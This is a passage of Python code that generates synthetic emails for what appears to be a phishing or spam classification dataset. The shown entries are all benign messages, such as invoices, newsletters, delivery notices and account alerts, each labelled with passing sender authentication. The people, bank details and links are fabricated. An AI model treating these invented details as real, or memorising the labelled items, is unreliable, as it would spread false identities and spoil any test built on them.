                     "Subtotal GBP 163.00   VAT 20% GBP 32.60   TOTAL GBP 195.60", "",
                     "Payment within 14 days by bank transfer:",
                     "Brightflow Plumbing & Heating Ltd, Sort code 20-45-77, Account 43918822",
                     "Reference: 2025-0419   Thank you for your custom!"], title="Invoice 2025-0419")
    plain = ("Hi Richard,\n\nThanks for having us round on Tuesday. Please find attached the invoice for the boiler "
             "service and the new filling loop. Payment details are on the invoice, same as last year.\n\n"
             "The gas safety certificate will follow separately once it's registered.\n\n"
             "Kind regards,\nKaren Lowther\nBrightflow Plumbing & Heating Ltd\n01947 600 318")
    add(slug, C, "small local business (plumber) sending an invoice PDF from its own domain via its hosted mailbox, "
        "bank details unchanged 'same as last year', all authentication passes",
        site="harbour", rcpt="r.whitfield", frm=("Brightflow Plumbing & Heating", "accounts@brightflowplumbing.co.uk"),
        subject="Invoice 2025-0419 - boiler service", date=when(2025, 4, 3, 16, 21, 8, 1), ip="212.227.126.133",
        helo="mout.kundenserver.de", rdns="mout.kundenserver.de", mailfrom="accounts@brightflowplumbing.co.uk",
        spf="pass", dkim="pass", dkim_d="brightflowplumbing.co.uk",
        dkim_sign=("brightflowplumbing.co.uk", "s1-ionos"), dmarc="pass", dmarc_policy="none",
        msgid=f"{hx(slug, 8)}-{hx(slug + 'a', 4)}-{hx(slug + 'b', 4)}-{hx(slug + 'c', 12)}@brightflowplumbing.co.uk",
        xmailer="User-Agent: Mozilla Thunderbird",
        body=mixed(slug, text(plain, encoding="7bit"), mime.attachment("application/pdf", "Invoice_2025-0419.pdf", pdf)))

    # c4 calendar invitation (German, internal)
    slug = "kalender-einladung"
    ics = ("BEGIN:VCALENDAR\r\nPRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN\r\nVERSION:2.0\r\n"
           "METHOD:REQUEST\r\nBEGIN:VEVENT\r\n"
           "ORGANIZER;CN=\"Dr. Miriam Holt\":mailto:m.holt@uni-brackwede.de\r\n"
           "ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=\"Henrik Kessler\":"
           "mailto:h.kessler@uni-brackwede.de\r\n"
           "ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=\"Lena Schmitt\":"
           "mailto:l.schmitt@uni-brackwede.de\r\n"
           "DESCRIPTION:Agenda: Stand Drittmittelantrag\\, Aufteilung Lehre SoSe 2025\\, Verschiedenes\\n"
           "Raum C2-114 oder per Zoom: https://uni-brackwede.zoom.us/j/68312740915\r\n"
           "UID:040000008200E00074C5B7101A82E008000000007" + hx(slug, 24) + "\r\n"
           "SUMMARY:Arbeitsgruppentreffen AG Holt\r\nDTSTART;TZID=W. Europe Standard Time:20250312T140000\r\n"
           "DTEND;TZID=W. Europe Standard Time:20250312T153000\r\nDTSTAMP:20250303T091500Z\r\n"
           "LOCATION:C2-114\r\nSEQUENCE:0\r\nSTATUS:CONFIRMED\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
    plain = ("Liebe Kolleginnen und Kollegen,\n\nhiermit lade ich zum nächsten Treffen der AG ein.\n"
             "Agenda: Stand Drittmittelantrag, Aufteilung Lehre SoSe 2025, Verschiedenes.\n"
             "Raum C2-114 oder per Zoom: https://uni-brackwede.zoom.us/j/68312740915\n\nViele Grüße\nMiriam Holt")
    cal = Leaf("text/calendar", ics.encode(), "base64", '; charset="utf-8"; method=REQUEST')
    body = Multi("alternative", f"_000_{alnum(slug, 20)}_", [text(plain), cal])
    add(slug, C, "internal German calendar invitation (text/calendar METHOD:REQUEST) from a colleague on the university "
        "mail server, Zoom link on the university's own zoom.us subdomain",
        site="brackwede", rcpt="h.kessler", frm=("Dr. Miriam Holt", "m.holt@uni-brackwede.de"),
        to="Henrik Kessler <h.kessler@uni-brackwede.de>, Lena Schmitt <l.schmitt@uni-brackwede.de>",
        subject="Arbeitsgruppentreffen AG Holt", date=when(2025, 3, 3, 10, 15, 2, 1), ip="10.20.1.34",
        helo="exch02.rz.uni-brackwede.de", rdns="exch02.rz.uni-brackwede.de", mailfrom="m.holt@uni-brackwede.de",
        spf="pass", dkim="pass", dkim_d="uni-brackwede.de", dkim_sign=("uni-brackwede.de", "mail2023"),
        dmarc="pass", dmarc_policy="quarantine",
        msgid=f"{alnum(slug, 32)}@exch02.rz.uni-brackwede.de", xmailer=OUTLOOK16,
        extra=["X-MS-Has-Attach:", "X-MS-TNEF-Correlator:"], body=body)

    # c5 German family mail from web.de with photo
    slug = "familie-webde-foto"
    plain = ("Hallo Frank,\n\nanbei das Foto vom Strand in Zingst, das ich dir versprochen hatte. Das Wetter war "
             "die ganze Woche super, nur am Donnerstag hat es geregnet.\n\nWann kommt ihr uns denn mal wieder besuchen? "
             "Mama hat am 14. Geburtstag, vielleicht passt das ja.\n\nLiebe Grüße\nAnke")
    add(slug, C, "sister writing from web.de with a holiday photo (JPEG) attached, no links; web.de passes SPF/DKIM/DMARC",
        site="brackwede", rcpt="f.hartmann", frm=("Anke Hartmann", "anke.hartmann@web.de"),
        subject="Foto aus Zingst", date=when(2024, 8, 25, 18, 3, 44, 2), ip="212.227.15.3",
        helo="mout.web.de", rdns="mout.web.de", mailfrom="anke.hartmann@web.de", spf="pass", dkim="pass",
        dkim_d="web.de", dkim_sign=("web.de", "s29768273"), dmarc="pass", dmarc_policy="quarantine",
        msgid=f"trinity-{hx(slug, 8)}-{hx(slug + 'a', 4)}-{hx(slug + 'b', 4)}-{hx(slug + 'c', 4)}-"
              f"{hx(slug + 'd', 12)}-1724601824{int(hx(slug, 3), 16)}@3c-app-webde-bap12",
        extra=["Importance: normal", "Sensitivity: Normal"],
        body=mixed(slug, text(plain), mime.attachment("image/jpeg", "IMG_20240819_172233.jpg", files.photo_jpeg(5))))

    # c6 Spanish reply thread from a supplier contact
    slug = "respuesta-proveedor-es"
    plain = ("Hola Lucía,\n\nTe confirmo que el pedido de vacunas saldrá mañana por la mañana con la ruta habitual, "
             "así que lo tendréis en la clínica el jueves antes de las 12. La factura la recibiréis como siempre a "
             "final de mes.\n\nSobre lo que me preguntabas del nuevo lector de microchips: te paso la ficha la "
             "semana que viene cuando me la manden de fábrica.\n\nUn saludo,\nJavier\n\n"
             "El mar, 11 mar 2025 a las 9:14, Lucía Ortega <lucia@vetsantelmo.es> escribió:\n"
             "> Hola Javier,\n> ¿Nos confirmas si el pedido 4471 llega esta semana? Tenemos campaña de rabia el viernes.\n"
             "> Gracias,\n> Lucía\n")
    add(slug, C, "supplier's sales contact replying in Spanish inside an existing thread (In-Reply-To/References, "
        "quoted text), no links or attachments, own domain passes",
        site="santelmo", rcpt="lucia", frm=("Javier Molina", "jmolina@distrivet-levante.es"),
        subject="Re: Pedido 4471", date=when(2025, 3, 11, 11, 40, 3, 1), ip="89.140.22.17",
        helo="mail.distrivet-levante.es", rdns="mail.distrivet-levante.es", mailfrom="jmolina@distrivet-levante.es",
        spf="pass", dkim="pass", dkim_d="distrivet-levante.es", dkim_sign=("distrivet-levante.es", "default"),
        dmarc="pass", dmarc_policy="none", msgid=f"{hx(slug, 32)}@distrivet-levante.es",
        extra=[f"In-Reply-To: <{hx(slug + 'orig', 32)}@vetsantelmo.es>",
               f"References: <{hx(slug + 'orig', 32)}@vetsantelmo.es>"],
        xmailer="User-Agent: Roundcube Webmail/1.6.6", body=text(plain))

    # c7 Italian accountant
    slug = "commercialista-documenti"
    plain = ("Buongiorno Marco,\n\nper preparare il modello 730 di quest'anno mi servirebbero i seguenti documenti:\n\n"
             "- Certificazione Unica 2025 (dovrebbe arrivarti dal datore di lavoro entro metà marzo)\n"
             "- ricevute delle spese mediche e della farmacia\n- interessi passivi del mutuo (certificazione della banca)\n"
             "- eventuali spese per ristrutturazione con le fatture e i bonifici parlanti\n\n"
             "Puoi portarmeli in studio o mandarmeli per email, come preferisci. Se hai accesso al cassetto fiscale "
             "possiamo anche scaricare la precompilata insieme.\n\nUn cordiale saluto,\n\n"
             "Dott.ssa Elena Ferri\nStudio Ferri – Commercialisti Associati\nVia Garibaldi 22, 50123 Firenze\n"
             "Tel. 055 2645 118")
    add(slug, C, "accountant writing in Italian to a client listing documents needed for the tax return; mentions tax "
        "matters but asks for nothing via link, sent from her own domain through Aruba with passing auth",
        site="bellandi", rcpt="m.bellandi", frm=("Studio Ferri", "elena.ferri@studioferri-commercialisti.it"),
        subject="Documenti per il 730/2025", date=when(2025, 2, 20, 9, 12, 40, 1), ip="62.149.158.96",
        helo="smtpcmd0996.aruba.it", rdns="smtpcmd0996.aruba.it",
        mailfrom="elena.ferri@studioferri-commercialisti.it", spf="pass", dkim="pass",
        dkim_d="studioferri-commercialisti.it", dkim_sign=("studioferri-commercialisti.it", "a1"),
        dmarc="pass", dmarc_policy="none", msgid=f"{hx(slug, 8)}-{hx(slug + 'x', 12)}@studioferri-commercialisti.it",
        xmailer="User-Agent: Mozilla Thunderbird", body=text(plain))

    # c8 French friend Gmail with Google Drive link
    slug = "ami-gmail-lien-drive"
    drive = "https://drive.google.com/drive/folders/1xQ7vP3kLm9RtY2wZa8bN4cD6eF0gH5jK?usp=sharing"
    plain = (f"Salut Julien,\n\nComme promis, voilà le dossier avec toutes les photos du mariage de Claire :\n{drive}\n\n"
             f"Il y en a un peu plus de 300, j'ai fait un tri rapide mais pas plus. Tu peux télécharger tout le dossier "
             f"d'un coup avec le bouton en haut à droite.\n\nOn se voit samedi pour le foot ?\n\nBises,\nSophie\n")
    html = ('<div dir="ltr">Salut Julien,<br><br>Comme promis, voilà le dossier avec toutes les photos du mariage de '
            f'Claire :<br><a href="{drive}">{drive}</a><br><br>Il y en a un peu plus de 300, j&#39;ai fait un tri '
            'rapide mais pas plus. Tu peux télécharger tout le dossier d&#39;un coup avec le bouton en haut à '
            'droite.<br><br>On se voit samedi pour le foot ?<br><br>Bises,<br>Sophie</div>')
    add(slug, C, "French friend writing from Gmail with a genuine drive.google.com folder link to wedding photos; "
        "conversational, gmail.com auth passes",
        site="vallonet", rcpt="j.dubois", frm=("Sophie Marchand", "sophie.marchand.lyon@gmail.com"),
        subject="Photos du mariage", date=when(2024, 6, 24, 21, 5, 17, 2), ip="209.85.218.46",
        helo="mail-ej1-f46.google.com", rdns="mail-ej1-f46.google.com", mailfrom="sophie.marchand.lyon@gmail.com",
        spf="pass", dkim="pass", dkim_d="gmail.com", dkim_sign=("gmail.com", "20230601"), dmarc="pass",
        dmarc_policy="none", msgid=f"CAB{b64ish(slug, 30)}-{b64ish(slug + 'g', 14)}@mail.gmail.com",
        body=alt(slug, plain, html))

    # c9 Portuguese friend outlook.com with Dropbox link
    slug = "amigo-outlook-dropbox"
    link = "https://www.dropbox.com/scl/fi/7k2mqz9x4p1r8tve3ybn0/Orcamento_Remodelacao_Cozinha.pdf?rlkey=h3k9w2p7qz1m5v8x0c4b6n2d1&dl=0"
    plain = (f"Olá Inês,\n\nFinalmente recebi o orçamento do empreiteiro para a cozinha. Deixo aqui o link do Dropbox "
             f"para veres: {link}\n\nAchei o valor da bancada um pouco alto, mas o resto parece razoável. Diz-me o que "
             f"achas antes de eu lhe responder.\n\nBeijinhos,\nCarla")
    add(slug, C, "Portuguese friend writing from outlook.com with a genuine dropbox.com shared-file link to a quote; "
        "personal tone, outlook.com auth passes",
        site="amaral", rcpt="ines", frm=("Carla Sousa", "carla.sousa77@outlook.com"),
        subject="Orçamento da cozinha", date=when(2024, 11, 8, 20, 33, 2, 0), ip="40.92.90.71",
        helo="EUR05-VI1-obe.outbound.protection.outlook.com",
        rdns="mail-vi1eur05olkn2071.outbound.protection.outlook.com", mailfrom="carla.sousa77@outlook.com",
        spf="pass", dkim="pass", dkim_d="outlook.com", dkim_sign=("outlook.com", "selector1"), dmarc="pass",
        dmarc_policy="none",
        msgid=f"DU0P192MB{alnum(slug, 4)}{alnum(slug + 'o', 22)}@DU0P192MB{alnum(slug, 4)}.EURP192.PROD.OUTLOOK.COM",
        body=text(plain))


def unsub(url, mailto=None):
    v = f"<{url}>" if not mailto else f"<mailto:{mailto}>, <{url}>"
    return [f"List-Unsubscribe: {v}", "List-Unsubscribe-Post: List-Unsubscribe=One-Click"]


def bulk_mail():
    # b1 Substack
    slug = "substack-newsletter"
    r = lambda n: f"https://substack.com/redirect/{hx(slug + str(n), 8)}-{hx(slug + 'u' + str(n), 4)}-4c1e-9a3f-{hx(slug + 'v' + str(n), 12)}?j=eyJ1IjoiMmQ5a3YifQ.{b64ish(slug + str(n), 43)}"
    post = "https://thelongmargin.substack.com/p/why-small-ports-are-winning"
    html = page(row('<p style="font-size:13px;color:#777;">The Long Margin</p>'
                    '<h1 style="font-family:Georgia,serif;font-size:30px;">Why small ports are winning</h1>'
                    '<p style="color:#777;">Container traffic is drifting away from the giants. Here is what the data '
                    'says.</p><p style="font-size:12px;">Priya Raman &middot; Mar 18</p>')
                + row(f'<p>Three years ago I wrote that the post-pandemic shipping boom would end with a whimper. It '
                      f'did, but not where I expected. The big hub ports are handling roughly the same volume they '
                      f'did in 2019, while a handful of secondary ports grew by double digits...</p>'
                      f'<p><a href="{r(1)}">Read the rest of this post</a></p>'
                      + button(r(2), "Share", "#ff6719")
                      + f'<p style="font-size:12px;color:#777;">You\'re a free subscriber to The Long Margin. '
                        f'<a href="{r(3)}">Upgrade to paid</a></p>')
                + row(f'<p style="font-size:11px;color:#999;">&copy; 2025 Priya Raman<br>548 Market Street PMB 72296, '
                      f'San Francisco, CA 94104<br><a href="{r(4)}">Unsubscribe</a></p>'))
    plain = (f"The Long Margin\nWhy small ports are winning\n\nView in browser: {post}\n\nThree years ago I wrote that "
             f"the post-pandemic shipping boom would end with a whimper...\n\nRead more: {r(1)}\n\n"
             f"Unsubscribe: {r(4)}\n")
    add(slug, B, "Substack newsletter from a publication the recipient subscribed to: substack.com redirect links, "
        "List-Unsubscribe one-click, mailgun-delivered with DKIM d=substack.com and DMARC pass",
        site="okonkwo", rcpt="chidi", frm=("Priya Raman from The Long Margin", "thelongmargin@substack.com"),
        reply_to="The Long Margin <reply+2ld91k&16hx3&&a1b2c3@mg1.substack.com>",
        subject="Why small ports are winning", date=when(2025, 3, 18, 13, 0, 41, 0), ip="143.55.232.38",
        helo="mg-d0.substack.com", rdns="m232-38.mailgun.net", mailfrom="bounce+1f3a2e.9c81-chidi=okonkwo-family.net@mg-d0.substack.com",
        spf="pass", dkim="pass", dkim_d="substack.com", dkim_sign=("substack.com", "m1"), dmarc="pass",
        dmarc_policy="none", msgid=f"20250318130041.{hx(slug, 16)}@mg-d0.substack.com",
        extra=unsub("https://thelongmargin.substack.com/action/disable_email?token=" + b64ish(slug + "t", 40))
        + ["List-ID: <thelongmargin.substack.com>", "X-Mailgun-Tag: post", "Precedence: bulk"],
        body=alt(slug, plain, html))

    # b2 Mailchimp small business
    slug = "mailchimp-bakery"
    lm = lambda n: f"https://hearthandcrumb.us21.list-manage.com/track/click?u=8f3c21d9a0b47e6512cd94a7e&id={hx(slug + str(n), 10)}&e={hx(slug + 'e', 10)}"
    html = page(row('<h2 style="color:#7a4b2a;">Hearth &amp; Crumb Bakery</h2><p>Spring menu is here!</p>')
                + row(f'<p>Hi Adaeze,</p><p>From Saturday we\'re baking hot cross buns every morning until Easter, '
                      f'and our rhubarb &amp; custard danish is back. Pre-order for collection on the Thursday before '
                      f'Easter and skip the queue.</p>' + button(lm(1), "Pre-order online", "#7a4b2a")
                      + f'<p>Opening hours over the bank holiday: Fri 8&ndash;2, Sat 8&ndash;4, closed Sun &amp; Mon.</p>'
                        f'<p><a href="{lm(2)}">Instagram</a> | <a href="{lm(3)}">Our website</a></p>')
                + row(f'<p style="font-size:11px;color:#888;">Copyright &copy; 2025 Hearth &amp; Crumb, All rights '
                      f'reserved.<br>You are receiving this email because you signed up at our shop.<br>'
                      f'Our mailing address is: 22 Bridge Street, Hebden Bridge, HX7 8EX<br>'
                      f'<a href="https://hearthandcrumb.us21.list-manage.com/unsubscribe?u=8f3c21d9a0b47e6512cd94a7e&id=3b1c7d2e90&e={hx(slug + "e", 10)}">'
                      f'unsubscribe from this list</a> | <a href="https://hearthandcrumb.us21.list-manage.com/profile?u=8f3c21d9a0b47e6512cd94a7e">'
                      f'update subscription preferences</a></p>'
                      f'<img src="https://hearthandcrumb.us21.list-manage.com/track/open.php?u=8f3c21d9a0b47e6512cd94a7e&id={hx(slug, 10)}&e={hx(slug + "e", 10)}" height="1" width="1">'))
    plain = f"Hearth & Crumb Bakery - spring menu\n\nPre-order online: {lm(1)}\n"
    add(slug, B, "small bakery's Mailchimp newsletter: list-manage.com click tracking and open pixel, mcdlv.net "
        "envelope, DKIM for the bakery's domain and mcsv.net, List-Unsubscribe, physical address footer",
        site="okonkwo", rcpt="adaeze", frm=("Hearth & Crumb Bakery", "hello@hearthandcrumb.co.uk"),
        to="Adaeze <adaeze@okonkwo-family.net>",
        subject="Hot cross buns are back 🥐 + Easter opening hours", date=when(2025, 4, 10, 9, 30, 2, 1),
        ip="198.2.139.210", helo="mail210.atl281.mcdlv.net", rdns="mail210.atl281.mcdlv.net",
        mailfrom=f"bounce-mc.us21_94112833.{int(hx(slug, 6), 16)}-{hx(slug + 'e', 10)}@mail210.atl281.mcdlv.net",
        spf="pass", dkim="pass", dkim_d="hearthandcrumb.co.uk", dkim_sign=("hearthandcrumb.co.uk", "k2"),
        dmarc="pass", dmarc_policy="none", hfrom_domain="hearthandcrumb.co.uk",
        msgid=f"{hx(slug, 24)}.{hx(slug + 'x', 20)}@mail210.atl281.mcdlv.net",
        extra=unsub("https://hearthandcrumb.us21.list-manage.com/unsubscribe?u=8f3c21d9a0b47e6512cd94a7e&id=3b1c7d2e90",
                    mailto="unsubscribe-mc.us21_94112833.3b1c7d2e90@unsubscribe.mailchimpapp.net")
        + ["X-Mailer: MailChimp Mailer - **CID" + hx(slug, 10) + hx(slug + "e", 10) + "**",
           "X-Campaign: mailchimp8f3c21d9a0b47e6512cd94a7e." + hx(slug, 10),
           "X-Report-Abuse: Please report abuse for this campaign here: https://mailchimp.com/contact/abuse/?u=8f3c21d9a0b47e6512cd94a7e",
           "Feedback-ID: 94112833:94112833.3180447:us21:mc", "Precedence: bulk"],
        body=alt(slug, plain, html))

    # b3 HubSpot B2B newsletter
    slug = "hubspot-saas-newsletter"
    hl = lambda n: f"https://d2Y5Zk04.na1.hubspotlinks.com/Ctc/L1+113/d2Y5Zk04/VW{alnum(slug + str(n), 20, False)}W{alnum(slug + 'x' + str(n), 30, False)}"
    html = page(row('<p style="font-size:20px;color:#2d3e50;"><b>Freightline</b> Product Update</p>')
                + row(f'<p>Hi Dave,</p><p>October brought three features many of you asked for:</p><ul>'
                      f'<li><b>Carrier scorecards</b> &ndash; on-time rates per lane, exportable to Excel</li>'
                      f'<li><b>Dock scheduling API</b> &ndash; now generally available</li>'
                      f'<li><b>SSO with Okta</b> for Business plans</li></ul>'
                      + button(hl(1), "See what's new", "#ff7a59")
                      + f'<p>Join our webinar on November 6: <a href="{hl(2)}">Register here</a></p>')
                + row(f'<p style="font-size:11px;color:#888;">Freightline Software Inc., 100 Summer St, Boston, MA '
                      f'02110<br><a href="{hl(3)}">Unsubscribe</a> &middot; <a href="{hl(4)}">Manage preferences</a></p>'))
    plain = f"Freightline Product Update - October\nSee what's new: {hl(1)}\nUnsubscribe: {hl(3)}\n"
    add(slug, B, "B2B SaaS product newsletter sent through HubSpot: hubspotlinks.com tracking redirects, envelope on "
        "hubspotemail.net, DKIM aligned for the vendor's domain, List-Unsubscribe",
        site="hollister", rcpt="dgreene", frm=("Freightline", "news@freightline.io"),
        subject="October product update: carrier scorecards, dock API and more", date=when(2024, 10, 29, 14, 0, 5, -4),
        ip="143.244.84.12", helo="ha2.hubspotemail.net", rdns=None,
        mailfrom=f"1axbtcrnpxy{alnum(slug, 20, False)}@bf12x.hubspotemail.net", spf="pass", dkim="pass",
        dkim_d="freightline.io", dkim_sign=("freightline.io", "hs1-20994431"), dmarc="pass", dmarc_policy="none",
        hfrom_domain="freightline.io", msgid=f"{int(hx(slug, 10), 16)}.{int(hx(slug + 'a', 8), 16)}@freightline.io",
        extra=unsub("https://hs-20994431.s.hubspotemail.net/hs/manage-preferences/unsubscribe-all?languagePreference=en&d="
                    + alnum(slug + "d", 40, False))
        + ["X-HS-Cid: " + alnum(slug + "c", 20, False), "Precedence: bulk"],
        body=alt(slug, plain, html))

    # b4 UPS shipping notification
    slug = "ups-shipment-notice"
    tn = "1Z4F96R20312745582"
    turl = f"https://www.ups.com/track?loc=en_US&tracknum={tn}&requester=ST/trackdetails"
    html = page(row('<table width="100%" bgcolor="#351c15"><tr><td style="padding:14px;color:#ffb500;font-size:20px;">'
                    '<b>UPS</b></td></tr></table>', pad="0")
                + row(f'<p style="font-size:18px;"><b>Your package is on the way</b></p><p>Scheduled delivery: '
                      f'<b>Thursday, 05/15/2025</b>, by End of Day</p><table cellpadding="4" style="font-size:13px;">'
                      f'<tr><td>Tracking number:</td><td><a href="{turl}">{tn}</a></td></tr>'
                      f'<tr><td>Ship to:</td><td>COLUMBUS, OH, US</td></tr><tr><td>Shipped from:</td>'
                      f'<td>GRAINGER, LOUISVILLE, KY</td></tr><tr><td>Number of packages:</td><td>1</td></tr></table>'
                      + button(turl, "Track Package", "#ffc400")
                      + '<p style="font-size:11px;color:#666;">Do not reply to this e-mail. UPS and Grainger will not '
                        'receive your reply. &copy; 2025 United Parcel Service of America, Inc.</p>'))
    plain = f"Your package is on the way. Scheduled delivery Thursday 05/15/2025.\nTracking number {tn}: {turl}\n"
    add(slug, B, "genuine UPS shipment notification from ups.com (pass SPF/DKIM/DMARC), tracking link on www.ups.com, "
        "no payment requested",
        site="hollister", rcpt="receiving", frm=("UPS", "pkginfo@ups.com"),
        subject=f"UPS Update: Package Scheduled for Delivery Thursday, 05/15/2025",
        date=when(2025, 5, 13, 18, 22, 7, -4), ip="153.2.234.88", helo="mx-o.ups.com", rdns=None,
        mailfrom="bounces@ups.com", spf="pass", dkim="pass", dkim_d="ups.com", dkim_sign=("ups.com", "ups2023"),
        dmarc="pass", dmarc_policy="reject", msgid=f"{hx(slug, 20)}.{int(hx(slug, 6), 16)}@pkginfo.ups.com",
        body=alt(slug, plain, html))

    # b5 DHL Paket German
    slug = "dhl-paket-ankuendigung"
    pc = "00340434161094042557"
    turl = f"https://www.dhl.de/de/privatkunden/pakete-empfangen/verfolgen.html?piececode={pc}"
    html = page(row('<table width="100%" bgcolor="#ffcc00"><tr><td style="padding:12px 30px;font-size:20px;'
                    'color:#d40511;"><b>DHL</b></td></tr></table>', pad="0")
                + row(f'<p>Guten Tag Lena Schmitt,</p><p>Ihr Paket von <b>Thalia Bücher GmbH</b> kommt '
                      f'<b>morgen, Mittwoch, 09.04.2025</b> voraussichtlich zwischen 10:30 und 13:30 Uhr.</p>'
                      f'<p>Sendungsnummer: <a href="{turl}">{pc}</a></p>'
                      + button(turl, "Sendung verfolgen", "#d40511")
                      + '<p>Sie sind nicht zu Hause? Ändern Sie die Zustellung bequem in der DHL App oder unter '
                        'dhl.de.</p><p style="font-size:11px;color:#888;">Deutsche Post AG, Charles-de-Gaulle-Str. '
                        '20, 53113 Bonn</p>'))
    plain = f"Ihr Paket kommt morgen, 09.04.2025. Sendungsnummer {pc}: {turl}\n"
    add(slug, B, "genuine DHL Paket delivery announcement in German from dhl.de, tracking link on www.dhl.de, no fee, "
        "authentication passes",
        site="brackwede", rcpt="l.schmitt", frm=("DHL Paket", "noreply.paket@dhl.de"),
        subject="Ihr DHL Paket kommt morgen", date=when(2025, 4, 8, 16, 5, 55, 2), ip="165.72.200.41",
        helo="mout-out.dhl.de", rdns=None, mailfrom="bounce@mail.dhl.de", spf="pass", dkim="pass", dkim_d="dhl.de",
        dkim_sign=("dhl.de", "dhl2024"), dmarc="pass", dmarc_policy="reject", hfrom_domain="dhl.de",
        msgid=f"{hx(slug, 30)}@mail.dhl.de", body=alt(slug, plain, html))

    # b6 Google new sign-in
    slug = "google-security-alert"
    html = page(row('<p style="font-size:22px;">Google</p>')
                + row('<p style="font-size:20px;text-align:center;">A new sign-in on Mac</p>'
                      '<p style="text-align:center;">j.dubois@vallonet.fr</p><p>We noticed a new sign-in to '
                      'your Google Account on a Mac device. If this was you, you don\'t need to do anything. If not, '
                      'we\'ll help you secure your account.</p>'
                      + button("https://accounts.google.com/AccountChooser?Email=j.dubois@vallonet.fr&continue="
                               "https://myaccount.google.com/alert/nt/1718111100000?rfn%3D31%26rfnc%3D1%26eid%3D"
                               + alnum(slug, 24, False) + "%26et%3D0", "Check activity", "#1a73e8")
                      + '<p style="font-size:12px;">You can also see security activity at<br>'
                        'https://myaccount.google.com/notifications</p>')
                + row('<p style="font-size:11px;color:#777;">You received this email to let you know about important '
                      'changes to your Google Account and services.<br>&copy; 2024 Google LLC, 1600 Amphitheatre '
                      'Parkway, Mountain View, CA 94043, USA</p>'))
    plain = ("A new sign-in on Mac\n\nWe noticed a new sign-in to your Google Account on a Mac device. If this was you, "
             "you don't need to do anything.\nCheck activity: https://myaccount.google.com/notifications\n")
    add(slug, B, "genuine Google new-sign-in alert from accounts.google.com (DKIM/DMARC pass), links only to "
        "accounts.google.com/myaccount.google.com",
        site="vallonet", rcpt="j.dubois",
        frm=("Google", "no-reply@accounts.google.com"), subject="Security alert",
        date=when(2024, 6, 11, 13, 5, 0, 0), ip="209.85.220.73", helo="mail-sor-f73.google.com",
        rdns="mail-sor-f73.google.com", mailfrom="3cE9oZggTCT0ABp2ByvAA1E.zBFJABBy4jyCx0FA9.0AC@gaia.bounces.google.com",
        spf="pass", dkim="pass", dkim_d="accounts.google.com", dkim_sign=("accounts.google.com", "20230601"),
        dmarc="pass", dmarc_policy="reject", msgid=f"{b64ish(slug, 22)}@notifications.google.com",
        extra=["X-Notifications: " + hx(slug + "n", 16), "X-Account-Notification-Type: 127"],
        body=alt(slug, plain, html))

    # b7 GitHub password reset
    slug = "github-password-reset"
    link = f"https://github.com/password_reset/{alnum(slug, 40, False)}"
    plain = (f"We heard that you lost your GitHub password. Sorry about that!\n\nBut don't worry! You can use the "
             f"following button to reset your password:\n\n{link}\n\nIf you don't use this link within 3 hours, it "
             f"will expire. To get a new password reset link, visit: https://github.com/password_reset\n\n"
             f"Thanks,\nThe GitHub Team\n")
    add(slug, B, "genuine GitHub password-reset email (user-requested) from noreply@github.com with link to "
        "github.com/password_reset; SPF/DKIM/DMARC pass",
        site="brackwede", rcpt="f.hartmann", frm=("GitHub", "noreply@github.com"),
        subject="[GitHub] Please reset your password", date=when(2025, 1, 14, 20, 11, 3, 0), ip="192.30.252.206",
        helo="out-23.smtp.github.com", rdns="out-23.smtp.github.com", mailfrom="noreply@github.com", spf="pass",
        dkim="pass", dkim_d="github.com", dkim_sign=("github.com", "pf2023"), dmarc="pass", dmarc_policy="reject",
        msgid=f"{hx(slug, 16)}_{int(hx(slug, 5), 16)}@github.com", body=text(plain, encoding="7bit"))

    # b8 Microsoft account unusual sign-in (legit)
    slug = "microsoft-account-activity"
    plain = ("Microsoft account\nUnusual sign-in activity\n\nWe detected something unusual about a recent sign-in to "
             "the Microsoft account in**@casa-amaral.pt.\n\nSign-in details\nCountry/region: Portugal\nIP address: "
             "2.82.144.17\nDate: 11/8/2024 8:02 PM (WET)\nPlatform: Windows\nBrowser: Edge\n\nPlease go to your "
             "recent activity page to let us know whether or not this was you. If this wasn't you, we'll help you "
             "secure your account. If this was you, we'll trust similar activity in the future.\n\nReview recent "
             "activity: https://account.live.com/Activity\n\nTo opt out or change where you receive security "
             "notifications, click here: https://account.live.com/SecurityNotifications/Update\n\n"
             "Thanks,\nThe Microsoft account team\n")
    add(slug, B, "genuine Microsoft account unusual-sign-in notice from accountprotection.microsoft.com, links only "
        "to account.live.com, masked address, DKIM/DMARC pass",
        site="amaral", rcpt="ines",
        frm=("Microsoft account team", "account-security-noreply@accountprotection.microsoft.com"),
        subject="Microsoft account unusual sign-in activity", date=when(2024, 11, 8, 20, 14, 51, 0),
        ip="40.92.18.22", helo="BN1PR04CU002.outbound.protection.outlook.com", rdns=None,
        mailfrom="account-security-noreply@accountprotection.microsoft.com", spf="pass", dkim="pass",
        dkim_d="accountprotection.microsoft.com", dkim_sign=("accountprotection.microsoft.com", "s1024-meo"),
        dmarc="pass", dmarc_policy="reject", msgid=f"{alnum(slug, 8)}@{alnum(slug + 'h', 8).lower()}.prod.outlook.com",
        body=text(plain))


def bulk_mail_2():
    # b9 bank statement available
    slug = "bank-statement-ready"
    html = page(row('<p style="font-size:20px;color:#117aca;"><b>CHASE</b></p>')
                + row('<p style="font-size:18px;"><b>Your statement is ready</b></p>'
                      '<table cellpadding="4" style="font-size:13px;"><tr><td>Account:</td><td>Chase Business Complete '
                      'Checking (...7716)</td></tr><tr><td>Statement period:</td><td>Jan 1 - Jan 31, 2025</td></tr></table>'
                      '<p>Your statement is available in the Chase Mobile&reg; app and on chase.com. For your security, '
                      'we don\'t include links to sign in. Please sign in to your account directly to view it.</p>'
                      '<p style="font-size:11px;color:#666;">Securely access your accounts with the Chase Mobile app '
                      'or chase.com. This service email was sent to dgreene@hollisterkent.com. Please don\'t reply '
                      'to this automated message.<br>JPMorgan Chase Bank, N.A. Member FDIC &copy; 2025 JPMorgan Chase '
                      '&amp; Co.</p>'))
    plain = ("Your statement is ready\n\nAccount: Chase Business Complete Checking (...7716)\nStatement period: "
             "Jan 1 - Jan 31, 2025\n\nPlease sign in to chase.com or the Chase Mobile app to view it.\n")
    add(slug, B, "genuine bank statement-available notice from chase.com with no sign-in link (tells the customer to "
        "sign in directly), masked account number, SPF/DKIM/DMARC pass",
        site="hollister", rcpt="dgreene", frm=("Chase", "no.reply.alerts@chase.com"),
